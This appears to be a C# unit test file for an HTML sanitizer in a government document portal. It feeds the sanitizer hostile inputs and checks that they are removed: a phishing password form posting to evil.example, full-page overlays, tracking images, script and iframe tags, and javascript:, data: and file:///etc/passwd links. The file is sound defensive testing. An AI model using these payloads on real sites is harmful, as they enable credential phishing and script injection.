using AngleSharp.Html.Parser;
using Gongkai.App.Catalog;

namespace Gongkai.Tests.Catalog;

/// <summary>
/// A catalog body keeps what a government document needs and nothing an editor could use to pass a page off as the
/// portal's own sign-in screen before a reviewer (issue 13 §2).
/// </summary>
public class CatalogBodyHtmlTests
{
    private const string Image = "/xxgk/attachments/0192d3a4-5b6c-7d8e-9fa0-b1c2d3e4f5a6";

    /// <summary>What a real notice holds: headings, a table with merged cells, lists, emphasis, links, its own image.</summary>
    private const string Document =
        "<h2 class=\"align-center\">青岚市人民政府办公室关于做好2024年防汛工作的通知</h2>" +
        "<p>各区县人民政府，市直各单位：</p>" +
        "<p>现将有关事项通知如下：<strong>务必</strong>于<em>5月31日</em>前完成排查。</p>" +
        "<h3>一、工作要求</h3>" +
        "<ol><li>落实责任。</li><li>加强值守。<ul><li>24小时值班</li></ul></li></ol>" +
        "<table><caption>附表：责任分工</caption><thead><tr><th scope=\"col\">单位</th><th colspan=\"2\">职责</th></tr></thead>" +
        "<tbody><tr><td rowspan=\"2\">水利局</td><td>巡查</td><td>抢险</td></tr><tr><td colspan=\"2\">调度</td></tr></tbody></table>" +
        "<p>详见<a href=\"/xxgk/item/11990100MB99000056/2024-00001\">上一期通知</a>和" +
        "<a href=\"https://www.gov.cn/zhengce/\" rel=\"noopener noreferrer\">中国政府网</a>，来信请寄" +
        "<a href=\"mailto:office@qinglan.example\">office@qinglan.example</a>。</p>" +
        "<p><img src=\"" + Image + "\" alt=\"防汛责任示意图\" width=\"600\"></p>" +
        "<p class=\"align-right\">青岚市人民政府办公室<br>2024年5月6日</p>";

    [Fact]
    public void A_normal_document_should_survive_unchanged() =>
        Assert.Equal(Document, CatalogBodyHtml.Sanitize(Document));

    [Fact]
    public void A_phishing_form_with_a_password_input_should_be_removed_with_its_content()
    {
        var body = CatalogBodyHtml.Sanitize(
            "<p>通知正文。</p><form action=\"https://evil.example/collect\" method=\"post\"><p>登录已过期，请重新输入密码</p>" +
            "<label>用户名 <input name=\"u\"></label><input type=\"password\" name=\"p\"><button>登录</button></form>");

        Assert.Equal("<p>通知正文。</p>", body);
    }

    [Theory]
    [InlineData("position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff")]
    [InlineData("position: absolute; inset: 0")]
    [InlineData("POSITION:FIXED")]
    public void An_overlay_should_lose_its_style_and_stay_in_the_flow_of_the_text(string style)
    {
        var body = CatalogBodyHtml.Sanitize($"<div style=\"{style}\"><h1>统一身份认证</h1></div>");

        Assert.Equal("<div><h1>统一身份认证</h1></div>", body);
    }

    [Fact]
    public void Alignment_should_become_a_class_and_every_other_style_go()
    {
        Assert.Equal("<p class=\"align-center\">标题</p>", CatalogBodyHtml.Sanitize("<p style=\"text-align: center; font-size: 40px; color: red\">标题</p>"));
        Assert.Equal("<p class=\"align-right\">落款</p>", CatalogBodyHtml.Sanitize("<p align=\"right\">落款</p>"));
        Assert.Equal("<p>正文</p>", CatalogBodyHtml.Sanitize("<p class=\"login-box visually-hidden\" id=\"status\" style=\"text-indent:-9999px\">正文</p>"));
    }

    [Theory]
    [InlineData("<img src=\"https://evil.example/track.png\" alt=\"公章\">", "<a href=\"https://evil.example/track.png\" rel=\"noopener noreferrer\">图片：公章</a>")]
    [InlineData("<img src=\"//evil.example/x.gif\">", "<a href=\"//evil.example/x.gif\" rel=\"noopener noreferrer\">图片</a>")]
    [InlineData("<img src=\"/\\evil.example/x.gif\">", "<a href=\"/\\evil.example/x.gif\" rel=\"noopener noreferrer\">图片</a>")]
    [InlineData("<img src=\"/office/catalog\" alt=\"图\">", "<a href=\"/office/catalog\">图片：图</a>")]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"签名\">", "签名")]
    [InlineData("<img src=\"javascript:alert(1)\">", "")]
    public void An_image_from_anywhere_but_the_attachments_should_become_a_link_to_it_or_nothing(string image, string expected) =>
        Assert.Equal($"<p>{expected}</p>", CatalogBodyHtml.Sanitize($"<p>{image}</p>"));

    [Theory]
    [InlineData("<p style=\"background:url(https://evil.example/bg.png)\">正文</p>", "<p>正文</p>")]
    [InlineData("<p style=\"background-image:url('https://evil.example/bg.png');text-align:center\">正文</p>", "<p class=\"align-center\">正文</p>")]
    [InlineData("<table background=\"https://evil.example/bg.png\"><tbody><tr><td>正文</td></tr></tbody></table>", "<table><tbody><tr><td>正文</td></tr></tbody></table>")]
    [InlineData("<style>body{background:url(https://evil.example/bg.png)}</style><p>正文</p>", "<p>正文</p>")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><p>正文</p>", "<p>正文</p>")]
    public void A_background_or_stylesheet_from_another_site_should_be_removed(string html, string expected) =>
        Assert.Equal(expected, CatalogBodyHtml.Sanitize(html));

    [Theory]
    [InlineData("<svg width=\"100%\"><a href=\"https://evil.example\"><text>点击登录</text></a></svg>")]
    [InlineData("<object data=\"https://evil.example/login.html\">登录</object>")]
    [InlineData("<embed src=\"https://evil.example/login.swf\">")]
    [InlineData("<iframe src=\"https://evil.example/login\" style=\"position:fixed\">登录</iframe>")]
    [InlineData("<script>document.forms[0].submit()</script>")]
    [InlineData("<video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/p.png\"></video>")]
    [InlineData("<math><mtext>登录</mtext></math>")]
    public void Embedded_content_should_be_removed_entirely(string html) =>
        Assert.Equal("<p>正文</p>", CatalogBodyHtml.Sanitize(html + "<p>正文</p>"));

    [Theory]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("JaVaScRiPt:alert(1)")]
    [InlineData("java&#x09;script:alert(1)")]
    [InlineData("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
    [InlineData("vbscript:msgbox(1)")]
    [InlineData("file:///etc/passwd")]
    public void A_link_to_anything_but_http_https_or_mailto_should_lose_its_address(string href) =>
        Assert.Equal("<p><a>点击此处</a></p>", CatalogBodyHtml.Sanitize($"<p><a href=\"{href}\" onclick=\"x()\">点击此处</a></p>"));

    [Fact]
    public void An_external_link_should_carry_noopener_noreferrer_and_no_target()
    {
        var body = CatalogBodyHtml.Sanitize("<p><a href=\"https://evil.example/signin\" target=\"_blank\" rel=\"opener\">重新登录</a></p>");

        var link = new HtmlParser().ParseDocument(body).QuerySelector("a")!;
        Assert.Equal("https://evil.example/signin", link.GetAttribute("href"));
        Assert.Equal("noopener noreferrer", link.GetAttribute("rel"));
        Assert.False(link.HasAttribute("target"));
    }

    [Fact]
    public void Word_wrappers_should_give_way_to_their_text()
    {
        var body = CatalogBodyHtml.Sanitize("<p><font face=\"仿宋\" size=\"4\">各区县人民政府：</font><o:p></o:p></p><center>特此通知。</center>");

        Assert.Equal("<p>各区县人民政府：</p>特此通知。", body);
    }

    [Fact]
    public void Sanitizing_twice_should_change_nothing_more()
    {
        const string hostile = "<div style=\"position:fixed;text-align:justify\"><img src=\"https://evil.example/a.png\" alt=\"a\">" +
            "<a href=\"http://evil.example\">x</a><form><input></form></div>";
        var once = CatalogBodyHtml.Sanitize(hostile);

        Assert.Equal(once, CatalogBodyHtml.Sanitize(once));
    }
}
